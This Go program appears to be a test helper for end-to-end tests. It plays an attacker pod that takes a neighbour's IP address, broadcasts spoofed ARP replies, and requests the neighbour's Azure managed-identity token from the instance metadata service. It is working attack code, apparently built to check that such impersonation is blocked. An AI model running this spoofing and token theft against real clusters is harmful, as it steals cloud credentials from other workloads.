// Command attacker is what a pod with NET_ADMIN and NET_RAW can do to its neighbour: it takes the neighbour's address, tells everybody
// by ARP that it is here, and asks for the neighbour's token. It is packed into an image for the end-to-end tests alone.
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

const (
	device   = "eth0"
	tokenURL = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker VICTIM'S-ADDRESS")
		os.Exit(2)
	}
	ctx := context.Background()
	fmt.Println("OWN", ask(ctx, nil))
	victim := net.ParseIP(os.Args[1]).To4()
	if err := take(victim); err != nil {
		fmt.Println("ERROR", err)
		os.Exit(1)
	}
	const attempts = 8
	for range attempts {
		if err := claim(victim); err != nil {
			fmt.Println("ERROR", err)
			os.Exit(1)
		}
		fmt.Println("FORGED", ask(ctx, victim))
	}
	fmt.Println("END")
}

// take puts the victim's address on the pod's own interface.
func take(victim net.IP) error {
	link, err := netlink.LinkByName(device)
	if err != nil {
		return fmt.Errorf("finding %s: %w", device, err)
	}
	const all = 32
	address := &netlink.Addr{IPNet: &net.IPNet{IP: victim, Mask: net.CIDRMask(all, all)}}
	if err := netlink.AddrReplace(link, address); err != nil {
		return fmt.Errorf("taking the address: %w", err)
	}
	return nil
}

// claim says to everybody that the victim's address is here.
func claim(victim net.IP) error {
	own, err := net.InterfaceByName(device)
	if err != nil {
		return fmt.Errorf("finding %s: %w", device, err)
	}
	const arp = 0x0806
	everybody := []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	frame := append([]byte{}, everybody...)
	frame = append(frame, own.HardwareAddr...)
	frame = append(frame, 0x08, 0x06, 0, 1, 8, 0, 6, 4, 0, 2) // Ethernet, IPv4, an answer
	frame = append(frame, own.HardwareAddr...)
	frame = append(frame, victim...)
	frame = append(frame, everybody...)
	frame = append(frame, victim...)
	socket, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("opening a packet socket: %w", err)
	}
	defer unix.Close(socket)
	if err := unix.Sendto(socket, frame, 0, &unix.SockaddrLinklayer{Protocol: arp<<8&0xff00 | arp>>8, Ifindex: own.Index}); err != nil {
		return fmt.Errorf("sending: %w", err)
	}
	return nil
}

// ask gives status and body of a request for a token that comes from an address, or what there was instead of an answer.
func ask(ctx context.Context, from net.IP) string {
	const patience = 2 * time.Second
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	dialer := &net.Dialer{}
	if from != nil {
		dialer.LocalAddr = &net.TCPAddr{IP: from}
	}
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, tokenURL, nil)
	if err != nil {
		return "nothing: " + err.Error()
	}
	request.Header.Set("Metadata", "true")
	response, err := (&http.Transport{DialContext: dialer.DialContext, DisableKeepAlives: true}).RoundTrip(request)
	if err != nil {
		return "nothing: " + err.Error()
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil && !errors.Is(err, io.EOF) {
		return "nothing: " + err.Error()
	}
	const most = 300
	return fmt.Sprintf("HTTP %d %.*s", response.StatusCode, most, body)
}
